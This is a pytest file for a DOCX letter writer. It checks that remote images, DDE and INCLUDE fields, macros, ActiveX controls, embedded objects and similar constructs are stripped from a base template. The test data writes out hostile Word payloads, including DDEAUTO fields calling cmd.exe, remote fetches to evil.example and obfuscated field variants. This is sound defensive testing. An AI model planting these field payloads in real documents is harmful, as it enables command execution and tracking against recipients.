"""What a base file would bring into every letter: things that fetch, start or ask, and
references that would make Word say that the file is damaged."""

import re
import time
import zipfile
from io import BytesIO

import pytest
from docx_office import HEAD, OFFICE, PACKAGE, SEAL, SPACES, WORD, office_base, office_parts
from docx_tools import W as W_
from docx_tools import expected, findings, letter, line, parts, texts, tree

from lettertool.document import Document, Item
from lettertool.formats.docx import write

VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
DRAWING = "http://schemas.openxmlformats.org/drawingml/2006"
PICTURE = (
    f'<w:drawing><wp:inline xmlns:wp="{DRAWING}/wordprocessingDrawing">'
    '<wp:extent cx="914400" cy="914400"/><wp:docPr id="2" name="Logo"/>'
    f'<a:graphic xmlns:a="{DRAWING}/main"><a:graphicData uri="{DRAWING}/picture">'
    f'<pic:pic xmlns:pic="{DRAWING}/picture"><pic:nvPicPr><pic:cNvPr id="0" name="Logo"/>'
    "<pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip {reference}/><a:stretch><a:fillRect/>"
    '</a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/>'
    '<a:ext cx="914400" cy="914400"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom>'
    "</pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>"
)


def shape(inside: str = '<v:imagedata r:id="rId1"/>') -> str:
    return f'<v:shape {VML} id="s1" style="width:9pt;height:9pt">{inside}</v:shape>'


EXTERNAL = ' TargetMode="External"'
LINKS_ALLOWED = ("hyperlink",)
EVIL = "evil.example"


def field(code: str, result: str = "seen") -> str:
    """A field in its long form."""
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def rels(*rows: tuple[str, str, str]) -> bytes:
    lines = "".join(
        f'<Relationship Id="{id_}" Type="{kind if "://" in kind else OFFICE + "/" + kind}" '
        f'Target="{target}"{EXTERNAL if "://" in target else ""}/>'
        for id_, kind, target in rows
    )
    head = f'{HEAD}<Relationships xmlns="{PACKAGE}/relationships">'
    return f"{head}{lines}</Relationships>".encode()


def header(content: str, *rows: tuple[str, str, str], **more: bytes) -> dict[str, bytes | None]:
    """A header with a run of content after its text, and relationships."""
    text = f"<w:r><w:t>Office</w:t></w:r>{content}"
    return {
        "word/header2.xml": f"{HEAD}<w:hdr {SPACES}><w:p>{text}</w:p></w:hdr>".encode(),
        "word/_rels/header2.xml.rels": rels(*rows),
        **{name.replace("__", "/").replace("_dot_", "."): data for name, data in more.items()},
    }


def types(*overrides: tuple[str, str]) -> dict[str, bytes | None]:
    """The list of media types with more of them."""
    more = "".join(f'<Override PartName="/{n}" ContentType="{t}"/>' for n, t in overrides)
    old = office_parts()["[Content_Types].xml"]
    return {"[Content_Types].xml": old.replace(b"</Types>", more.encode() + b"</Types>")}


def added(part: str, before: str, text: str) -> dict[str, bytes | None]:
    """A part of the office's file with more text before a place in it."""
    old = office_parts()[part].decode()
    assert before in old
    return {part: old.replace(before, text + before, 1).encode()}


def run(content: str) -> str:
    return f"<w:r>{content}</w:r>"


def picture(reference: str) -> str:
    return run(PICTURE.format(reference=reference))


def embedded(kind: str) -> str:
    return run(
        f'<w:object>{shape()}<o:OLEObject {VML} Type="{kind}" ProgID="Package" ShapeID="s1" '
        'DrawAspect="Content" ObjectID="_1" r:id="rId2"/></w:object>'
    )


SEAL_ROW = ("rId1", "image", "media/signature1.png")

TRAPS: dict[str, dict[str, bytes | None]] = {
    "remote picture": header(
        picture('r:link="rId1"'), ("rId1", "image", f"https://{EVIL}/pixel.png")
    ),
    "remote picture behind a kept one": header(
        picture('r:embed="rId1" r:link="rId2"'),
        SEAL_ROW,
        ("rId2", "image", f"https://{EVIL}/pixel.png"),
    ),
    "remote picture in old drawings": header(
        run(f"<w:pict>{shape()}</w:pict>"),
        ("rId1", "image", f"file://{EVIL}/pixel.png"),
    ),
    "picture named directly": header(
        run("<w:pict>" + shape(f'<v:imagedata src="https://{EVIL}/a.png"/>') + "</w:pict>")
    ),
    "remote fill": header(
        run("<w:pict>" + shape('<v:fill r:id="rId1" type="frame"/>') + "</w:pict>"),
        ("rId1", "image", f"https://{EVIL}/pixel.png"),
    ),
    "linked object": header(
        embedded("Link"), SEAL_ROW, ("rId2", "oleObject", f"file://{EVIL}/a.xlsx")
    ),
    "embedded object": header(
        embedded("Embed"),
        SEAL_ROW,
        ("rId2", "oleObject", "embeddings/evil.example.bin"),
        word__embeddings__evil_dot_example_dot_bin=b"MZ",
    ),
    "control": header(
        run(
            f'<w:object>{shape("")}<w:control r:id="rId1" w:name="{EVIL}" '
            'w:shapeid="s1"/></w:object>'
        ),
        ("rId1", "control", "activeX/activeX1.xml"),
    ),
    "field that fetches a picture": header(field(f' INCLUDEPICTURE "https://{EVIL}/a.png" \\d ')),
    "field that fetches a text": header(field(f'INCLUDETEXT "\\\\{EVIL}\\a.docx"')),
    "field that starts a program": header(field(f" DDEAUTO c:\\\\cmd.exe {EVIL} ")),
    "field in its short form": header(
        f'<w:fldSimple w:instr=" DDE cmd {EVIL} "><w:r><w:t>seen</w:t></w:r></w:fldSimple>'
    ),
    "field in small letters": header(field(f" includepicture https://{EVIL}/a.png")),
    "field cut into runs": header(
        field(f"INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE https://{EVIL}/a.png")
    ),
    "field in a field": header(field(f" IF 1 = 1 {field(f'DDE cmd {EVIL}')} ")),
    "field whose name is computed": header(field(field(" QUOTE 68 68 69 ") + f" cmd {EVIL}")),
    "field whose name is a text": header(
        field(f'</w:instrText></w:r><w:r><w:t>DDE</w:t></w:r><w:r><w:instrText> cmd "{EVIL}"')
    ),
    "field in entities": header(field(f"&#68;&#68;&#69; cmd {EVIL}")),
    "field without an end": header(field(f"DDE cmd {EVIL}").rpartition("<w:r>")[0]),
    "field without a begin": header(run(f"<w:instrText>DDE cmd {EVIL}</w:instrText>")),
    "macro of a form": header(
        '<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="a"/>'
        f'<w:entryMacro w:val="{EVIL}"/></w:ffData></w:fldChar></w:r>'
        + field(" FORMTEXT ").partition("</w:r>")[2]
    ),
    "link to a file of theirs": header(
        '<w:hyperlink r:id="rId1"><w:r><w:t>link</w:t></w:r></w:hyperlink>',
        ("rId1", "hyperlink", f"file://{EVIL}/C:/Users"),
    ),
    "link that runs": header(
        '<w:hyperlink r:id="rId1"><w:r><w:t>link</w:t></w:r></w:hyperlink>',
        ("rId1", "hyperlink", f"vbscript://{EVIL}"),
    ),
    "chunk of another file": {
        **header("</w:p><w:altChunk r:id='rId1'/><w:p>", ("rId1", "aFChunk", "evil.example.html")),
        "word/evil.example.html": b"<script/>",
    },
    "nothing but a chunk": {
        "word/header2.xml": f"{HEAD}<w:hdr {SPACES}><w:altChunk r:id='rId1'/></w:hdr>".encode(),
        "word/_rels/header2.xml.rels": rels(("rId1", "aFChunk", f"https://{EVIL}/a.html")),
    },
    "chart": header(
        run(PICTURE.format(reference="").replace("<a:blip />", '<a:blip r:embed="rId1"/>')),
        ("rId1", "chart", "charts/chart1.xml"),
    ),
    "reference to nothing": header(picture('r:embed="rId7"')),
    "program that says it is a picture": {
        **header(picture('r:embed="rId1"'), ("rId1", "image", "evil.example.bin")),
        **types(("word/evil.example.bin", "application/vnd.ms-office.vbaProject")),
        "word/evil.example.bin": b"MZ",
    },
    "relationship that is not used": header("", ("rId1", "hyperlink", f"https://{EVIL}/")),
    "frames": {
        **added(
            "word/_rels/document.xml.rels",
            "</Relationships>",
            f'<Relationship Id="rId99" Type="{OFFICE}/webSettings" Target="webSettings.xml"/>',
        ),
        **types(("word/webSettings.xml", f"{WORD}.webSettings+xml")),
        "word/webSettings.xml": (
            f'{HEAD}<w:webSettings {SPACES}><w:frameset><w:frame><w:sourceFileName r:id="rId1"/>'
            "</w:frame></w:frameset></w:webSettings>"
        ).encode(),
        "word/_rels/webSettings.xml.rels": rels(("rId1", "frame", f"https://{EVIL}/a.html")),
    },
    "macros": {
        **added(
            "word/_rels/document.xml.rels",
            "</Relationships>",
            '<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/relationships'
            '/vbaProject" Target="evil.example.bin"/>',
        ),
        "word/evil.example.bin": b"MZ",
    },
    "mail merge from a database": added(
        "word/settings.xml",
        "<w:defaultTabStop",
        f'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:connectString w:val="{EVIL}"/>'
        '<w:dataSource r:id="rId1"/></w:mailMerge>',
    ),
    "link of a picture to a file": header(
        picture('r:embed="rId1"').replace(
            'name="Logo"/><a:graphic',
            f'name="Logo"><a:hlinkClick xmlns:a="{DRAWING}/main" r:id="rId2"/></wp:docPr>'
            "<a:graphic",
        ),
        SEAL_ROW,
        ("rId2", "hyperlink", f"file://{EVIL}/a"),
    ),
}


def body() -> Document:
    return letter(line("We write."), line("bullet", within=(Item(1, 1),)))


def references(content: bytes) -> set[str]:
    return {found.decode() for found in re.findall(rb'\br:\w+="([^"]+)"', content)}


def assert_sound(data: bytes) -> None:
    """No part twice, no relationship or reference to what is not there, nothing remote."""
    with zipfile.ZipFile(BytesIO(data)) as package:
        names = package.namelist()
    assert len({name.lower() for name in names}) == len(names)
    content = parts(data)
    for name in names:
        if not name.endswith(".xml"):
            continue
        folder, _, file = name.rpartition("/")
        holder = f"{folder}/_rels/{file}.rels".lstrip("/")
        known = set()
        if holder in content:
            for one in tree(data, holder):
                known.add(one.attrib["Id"])
                kind = one.attrib["Type"].rpartition("/")[2]
                if one.attrib.get("TargetMode") == "External":
                    assert kind in LINKS_ALLOWED
                else:
                    target = one.attrib["Target"]
                    place = target.lstrip("/") if target[0] == "/" else f"{folder}/{target}"
                    assert place in names
        assert references(content[name]) <= known, name


@pytest.mark.parametrize("trap", TRAPS)
def test_what_fetches_starts_or_asks_does_not_get_into_a_letter(trap, tmp_path):
    data = write(body(), office_base(TRAPS[trap]))
    assert texts(data) == expected(body())
    assert_sound(data)
    for name, content in parts(data).items():
        assert EVIL.encode() not in name.encode() + content
    assert findings(data, tmp_path) == []


def test_what_a_field_shows_stays_where_its_code_goes():
    for trap in TRAPS:
        if trap.startswith("field") and "without" not in trap:
            data = write(body(), office_base(TRAPS[trap]))
            shown = texts(data, "word/header2.xml")
            assert "".join(shown).startswith("Office"), trap
            if trap != "field in a field":
                assert b"fldChar" not in parts(data)["word/header2.xml"], trap
                assert b"seen" in parts(data)["word/header2.xml"], trap


@pytest.mark.parametrize(
    "code", ["PAGE", " NUMPAGES \\* Arabic ", " DATE \\@ &quot;d MMMM&quot;", "= 1 + 1", "page"]
)
def test_fields_that_count_and_date_stay_as_they_are(code):
    changes = header(field(code) + f'<w:fldSimple w:instr="{code}"/>')
    data = parts(write(body(), office_base(changes)))
    assert data["word/header2.xml"] == changes["word/header2.xml"]


def test_links_and_pictures_of_a_header_stay(tmp_path):
    link = '<w:hyperlink r:id="rId5"><w:r><w:t>site</w:t></w:r></w:hyperlink>'
    changes = header(
        picture('r:embed="rId1"') + link, SEAL_ROW, ("rId5", "hyperlink", "https://example.org/")
    )
    data = write(body(), office_base(changes))
    assert parts(data)["word/header2.xml"] == changes["word/header2.xml"]
    assert b'Target="https://example.org/"' in parts(data)["word/_rels/header2.xml.rels"]
    assert_sound(data)
    assert findings(data, tmp_path) == []


def test_the_picture_of_an_object_stays_without_the_object():
    data = parts(write(body(), office_base(TRAPS["embedded object"])))
    assert b'imagedata r:id="rId1"' in data["word/header2.xml"]
    assert b"OLEObject" not in data["word/header2.xml"]
    assert data["word/media/signature1.png"] == SEAL


def test_a_text_beside_a_lost_picture_stays():
    group = (
        f'<w:drawing><wp:inline xmlns:wp="{DRAWING}/wordprocessingDrawing">'
        f'<a:graphic xmlns:a="{DRAWING}/main"><a:graphicData uri="x"><wpg:wgp xmlns:wpg="x">'
        f'<pic:pic xmlns:pic="{DRAWING}/picture"><a:blip r:link="rId1"/></pic:pic>'
        "<w:txbxContent><w:p><w:r><w:t>Congress</w:t></w:r></w:p></w:txbxContent></wpg:wgp>"
        "</a:graphicData></a:graphic></wp:inline></w:drawing>"
    )
    changes = header(run(group), ("rId1", "image", f"https://{EVIL}/a.png"))
    data = parts(write(body(), office_base(changes)))["word/header2.xml"]
    assert b"Congress" in data
    assert b"pic:pic" not in data


BULLETS = f'<w:numPicBullet {VML} w:numPicBulletId="0"><w:pict>{shape()}</w:pict></w:numPicBullet>'


def picture_bullets(target: str) -> bytes:
    numbering = office_parts()["word/numbering.xml"].decode()
    numbering = numbering.replace("<w:abstractNum ", f"{BULLETS}<w:abstractNum ", 1)
    numbering = numbering.replace("<w:lvlJc", '<w:lvlPicBulletId w:val="0"/><w:lvlJc', 1)
    return office_base(
        {
            "word/numbering.xml": numbering.encode(),
            "word/_rels/numbering.xml.rels": rels(("rId1", "image", target)),
        }
    )


def test_pictures_as_bullets_come_along(tmp_path):
    data = write(body(), picture_bullets("media/signature1.png"))
    assert b"lvlPicBulletId" in parts(data)["word/numbering.xml"]
    assert_sound(data)
    assert findings(data, tmp_path) == []


def test_a_remote_picture_as_a_bullet_gives_way_to_the_bullets_character(tmp_path):
    data = write(body(), picture_bullets(f"https://{EVIL}/a.png"))
    numbering = parts(data)["word/numbering.xml"]
    assert b"PicBullet" not in numbering
    assert "»".encode() in numbering
    assert_sound(data)
    assert findings(data, tmp_path) == []


@pytest.mark.parametrize(
    "name",
    [
        *("docProps/core.xml", "DocProps/Core.xml", "word/footnotes.xml", "word/Numbering.XML"),
        *("word/_rels/footnotes.xml.rels", "word/media/a b.png", "word/é.png", "word/.png"),
    ],
)
def test_a_picture_cannot_take_the_name_of_a_part_that_is_written(name, tmp_path):
    files = office_parts()
    gone = dict.fromkeys(one for one in files if one.lower() == name.lower())
    if "word/numbering.xml" in gone:
        main = files["word/_rels/document.xml.rels"]
        gone["word/_rels/document.xml.rels"] = main.replace(b"/numbering", b"/unknown")
    changes = {
        **gone,
        **header(picture('r:embed="rId1"'), ("rId1", "image", f"/{name}")),
        **types((name, "image/png")),
        name: SEAL,
    }
    data = write(body(), office_base(changes))
    assert texts(data) == expected(body())
    assert SEAL in parts(data).values()
    assert_sound(data)
    assert findings(data, tmp_path) == []


def test_a_document_inside_of_a_document_is_none(tmp_path):
    inside = "<w:body><w:document/><w:p><w:document><w:sectPr/></w:document></w:p></w:body>"
    changes = {"word/document.xml": f"{HEAD}<w:document {SPACES}>{inside}</w:document>".encode()}
    data = write(body(), office_base(changes))
    assert texts(data) == expected(body())
    assert findings(data, tmp_path) == []


def test_a_crafted_comment_costs_no_time():
    """Twenty thousand signs that open tags and never close them took minutes."""
    for mark in ('<a b="', "<a b='", "<", "<a "):
        comment = f"<!-- w:rsid{mark * 100_000}\x27 -->"
        changes = added("word/settings.xml", "<w:zoom", comment)
        start = time.process_time()
        write(body(), office_base(changes))
        assert time.process_time() - start < 5


def test_list_levels_that_a_list_of_the_base_file_overrides_stay_overridden():
    override = (
        '<w:lvlOverride w:ilvl="0"><w:lvl w:ilvl="0"><w:start w:val="1"/>'
        '<w:numFmt w:val="upperRoman"/><w:pStyle w:val="LN"/><w:lvlText w:val="%1)"/>'
        '<w:lvlJc w:val="left"/><w:pPr><w:ind w:left="999" w:hanging="283"/></w:pPr></w:lvl>'
        '</w:lvlOverride><w:lvlOverride w:ilvl="1"><w:startOverride w:val="4"/></w:lvlOverride>'
    )
    abstract = (
        '<w:abstractNum w:abstractNumId="8"><w:lvl w:ilvl="0"><w:start w:val="1"/>'
        '<w:numFmt w:val="decimal"/><w:lvlText w:val="%1."/></w:lvl></w:abstractNum>'
    )
    numbering = office_parts()["word/numbering.xml"].decode()
    numbering = numbering.replace("<w:num ", f"{abstract}<w:num ", 1).replace(
        "</w:numbering>",
        f'<w:num w:numId="6"><w:abstractNumId w:val="8"/>{override}</w:num></w:numbering>',
    )
    style = (
        '<w:style w:type="paragraph" w:styleId="LN"><w:name w:val="List Number"/><w:pPr>'
        '<w:numPr><w:numId w:val="6"/></w:numPr></w:pPr></w:style>'
    )
    base = office_base(
        {
            "word/numbering.xml": numbering.encode(),
            **added("word/styles.xml", "</w:styles>", style),
        }
    )
    data = write(letter(line("one", within=(Item(1, 5, ordered=True),))), base)
    last = tree(data, "word/numbering.xml").findall(f"{W_}num")[-1]
    first, second = last.findall(f"{W_}lvlOverride")
    assert [one.tag.removeprefix(W_) for one in first] == ["startOverride", "lvl"]
    assert first.find(f"{W_}startOverride").attrib == {f"{W_}val": "5"}
    assert first.find(f"{W_}lvl/{W_}numFmt").attrib == {f"{W_}val": "upperRoman"}
    assert second.find(f"{W_}startOverride").attrib == {f"{W_}val": "4"}
